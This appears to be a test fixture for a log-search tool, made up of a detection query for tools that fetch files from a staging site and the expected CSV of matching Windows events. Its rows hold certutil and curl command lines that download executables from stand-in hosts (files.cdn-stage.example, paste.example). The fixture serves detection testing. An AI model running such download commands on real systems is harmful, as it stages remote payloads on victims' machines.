# Tools fetched from a staging site: each row as often as there are shapes
--- query
_sourceCategory=shape/*
| where (process_name in ("certutil.exe", "curl.exe", "powershell.exe") and command_line matches "*http*") or dst_ip = "203.0.113.20" or dns_query matches "*.cdn-stage.example" or script_text matches "*paste.example*" or (channel = "Microsoft-Windows-Sysmon/Operational" and file_path matches "*.exe")
| count by event_id, host, process_name, command_line, parent_process_name, dst_ip, dst_port, dns_query, file_path
| sort by event_id
--- from every-shape.events
--- output csv
event_id,host,process_name,command_line,parent_process_name,dst_ip,dst_port,dns_query,file_path,_count
4688,ws5.corp.example,curl.exe,curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7,cmd.exe,,,,,10
4104,ws5.corp.example,,,,,,,C:\Users\amara\stage.ps1,10
3,ws5.corp.example,certutil.exe,,,203.0.113.20,80,,,10
22,ws5.corp.example,certutil.exe,,,,,files.cdn-stage.example,,10
11,ws5.corp.example,certutil.exe,,,,,,C:\Users\Public\update & go.exe,10
1,ws5.corp.example,certutil.exe,"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe ""C:\Users\Public\update & go.exe""",cmd.exe,,,,,10
